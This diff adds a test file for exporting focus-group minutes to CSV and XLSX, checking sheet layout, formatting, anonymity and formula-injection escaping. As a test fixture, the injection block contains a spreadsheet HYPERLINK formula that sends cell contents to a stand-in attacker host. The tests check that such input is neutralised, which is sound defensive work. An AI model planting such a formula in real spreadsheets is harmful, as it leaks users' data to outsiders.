@@ -1,0 +1,147 @@
+import JSZip from 'jszip';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { neutralise } from './cells';
+import { renderCsv } from './csv';
+import { facilitatedFgd, sampleFgd } from './fixture';
+import { buildMinutes, type Minutes } from './model';
+import { renderXlsx } from './xlsx';
+
+const NOW = new Date('2025-10-24T04:30:00Z');
+
+/** Sheet name → its XML, with shared strings resolved into the cells. */
+async function openXlsx(buffer: Buffer): Promise<Map<string, string>> {
+	const zip = await JSZip.loadAsync(buffer);
+	const read = (path: string) => zip.file(path)!.async('string');
+	const shared = [...(await read('xl/sharedStrings.xml')).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
+		[...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')
+	);
+	const book = await read('xl/workbook.xml');
+	const sheets = new Map<string, string>();
+	for (const [i, m] of [...book.matchAll(/<sheet [^>]*name="([^"]+)"/g)].entries()) {
+		const xml = await read(`xl/worksheets/sheet${i + 1}.xml`);
+		sheets.set(m[1], xml.replace(/<c ([^>]*)t="s"([^>]*)><v>(\d+)<\/v><\/c>/g, (_, a, b, n) => `<c ${a}${b}><is>${shared[Number(n)]}</is></c>`));
+	}
+	return sheets;
+}
+
+/** The rows of a sheet as arrays of cell texts. */
+function rows(xml: string): string[][] {
+	return [...xml.matchAll(/<row [^>]*>([\s\S]*?)<\/row>/g)].map((r) =>
+		[...r[1].matchAll(/<c [^>]*?(?:\/>|>([\s\S]*?)<\/c>)/g)].map((c) => decode((c[1] ?? '').replace(/<[^>]+>/g, '')))
+	);
+}
+
+const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
+const decode = (xml: string) => xml.replace(/&(\w+);/g, (_, name: string) => ENTITIES[name] ?? `&${name};`);
+
+let fgd: ReturnType<typeof facilitatedFgd>;
+let id: Minutes;
+let en: Minutes;
+let book: Map<string, string>;
+
+beforeAll(async () => {
+	fgd = facilitatedFgd();
+	id = buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
+	en = buildMinutes(fgd.db, fgd.session.id, 'en', NOW);
+	book = await openXlsx(await renderXlsx(id));
+});
+
+describe('formula injection', () => {
+	it('quotes what a spreadsheet would run, and nothing else', () => {
+		for (const bad of ['=1+1', '+62 812', '-5', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(bad)).toBe(`'${bad}`);
+		for (const fine of ['Akses modal', '62', "'=x", ' =x']) expect(neutralise(fine)).toBe(fine);
+	});
+
+	it('neutralises posted formulas in the CSV and the XLSX', async () => {
+		const small = sampleFgd();
+		const ani = small.join('Ani', 'media', 'Radio Contoh');
+		small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
+		small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
+		const minutes = buildMinutes(small.db, small.session.id, 'id', NOW);
+		const csv = renderCsv(minutes);
+		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")"`);
+		expect(csv).toMatch(/,'\+62 81x/);
+		const items = rows((await openXlsx(await renderXlsx(minutes))).get('Masukan')!);
+		const texts = items.map((r) => r[3]);
+		expect(texts).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"klik")`);
+		expect(texts).toContain("'+62 81x xxxx xx90 hubungi");
+		expect(texts.every((t) => !/^[=+\-@]/.test(t))).toBe(true);
+	});
+});
+
+describe('CSV', () => {
+	it('starts with a BOM and lists every item with its kind, theme, author or anonim, group and votes', () => {
+		const csv = renderCsv(id);
+		expect(csv.startsWith('\uFEFFNo,Jenis,Tema,Masukan,Oleh,Kelompok,Suara\r\n')).toBe(true);
+		const lines = csv.trim().split('\r\n');
+		expect(lines).toHaveLength(id.items.length + 1);
+		expect(lines).toContain('1,Kendala,Permodalan,Akses modal usaha sulit tanpa agunan,Siti Rahmawati,Pemerintah (OPD / kecamatan / desa),4');
+		expect(lines).toContain('7,Rekomendasi,,Forum koordinasi CSR dan OPD setiap triwulan,anonim,,2');
+		expect(renderCsv(en)).toContain('Forum koordinasi CSR dan OPD setiap triwulan,anonymous,,2');
+	});
+});
+
+describe('XLSX', () => {
+	it('has one sheet per part, named in the minutes language', async () => {
+		expect([...book.keys()]).toEqual(['Rincian', 'Daftar hadir', 'Masukan', 'Suara per unsur', 'Tema', 'Keterkaitan', 'Rencana tindak lanjut']);
+		const english = await openXlsx(await renderXlsx(en));
+		expect([...english.keys()]).toEqual(['Details', 'Attendance', 'Contributions', 'Votes by group', 'Themes', 'Links', 'Action plan']);
+	});
+
+	it('freezes a bold header row on every sheet and sets column widths', async () => {
+		const styles = await JSZip.loadAsync(await renderXlsx(id)).then((z) => z.file('xl/styles.xml')!.async('string'));
+		const fonts = [...styles.match(/<fonts[\s\S]*?<\/fonts>/)![0].matchAll(/<font>([\s\S]*?)<\/font>/g)].map((f) => f[1].includes('<b/>'));
+		const xfs = [...styles.match(/<cellXfs[\s\S]*?<\/cellXfs>/)![0].matchAll(/<xf [^>]*fontId="(\d+)"/g)].map((x) => Number(x[1]));
+		for (const xml of book.values()) {
+			expect(xml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
+			expect(xml).toMatch(/<cols><col [^>]*width="\d+/);
+			const head = xml.match(/<row r="1"[\s\S]*?<\/row>/)![0];
+			const styleIds = [...head.matchAll(/<c [^>]*s="(\d+)"/g)].map((m) => Number(m[1]));
+			expect(styleIds.length).toBeGreaterThan(1);
+			expect(styleIds.every((s) => fonts[xfs[s]])).toBe(true);
+		}
+	});
+
+	it('lists the attendance with an empty signature column', () => {
+		const people = rows(book.get('Daftar hadir')!);
+		expect(people[0]).toEqual(['No', 'Nama', 'Instansi', 'Kelompok', 'Tanda tangan']);
+		expect(people).toHaveLength(id.attendance.total + 1);
+		expect(book.get('Daftar hadir')).toMatch(/<c r="A2"[^>]*><v>1<\/v>/);
+	});
+
+	it('types a known item with its vote count as a number', () => {
+		const xml = book.get('Masukan')!;
+		const row = rows(xml).find((r) => r[3] === 'Akses modal usaha sulit tanpa agunan')!;
+		expect(row.slice(6)).toEqual(['4', '1']);
+		expect(xml).toMatch(/<c r="G2"[^>]*><v>4<\/v><\/c>/);
+	});
+
+	it('links a recommendation to the constraint it addresses', () => {
+		expect(rows(book.get('Keterkaitan')!)).toContainEqual([
+			'Skema kredit lunak berbasis kelompok dengan pendampingan kampus',
+			'menjawab',
+			'Kendala',
+			'Akses modal usaha sulit tanpa agunan'
+		]);
+	});
+
+	it('carries an action row with its cost as a Rupiah-formatted number', async () => {
+		const xml = book.get('Rencana tindak lanjut')!;
+		const [head, row] = rows(xml);
+		expect(head).toHaveLength(15);
+		expect(row).toContain('Pelatihan dan pendampingan akses KUR');
+		expect(row).toContain('150000000');
+		const styles = await JSZip.loadAsync(await renderXlsx(id)).then((z) => z.file('xl/styles.xml')!.async('string'));
+		expect(styles).toContain('formatCode="&quot;Rp&quot; #,##0"');
+	});
+
+	it('writes the session start as a date', () => {
+		// 24 Oct 2025 09:00 is Excel serial 45954.375.
+		expect(book.get('Rincian')).toMatch(/<c r="B4"[^>]*><v>45954\.375<\/v>/);
+	});
+
+	it('keeps an anonymous author out of everything but the attendance list', () => {
+		for (const [name, xml] of book) if (name !== 'Daftar hadir') expect(xml).not.toContain('Rini');
+		expect(book.get('Daftar hadir')).toContain('Rini Anggraini');
+	});
+});
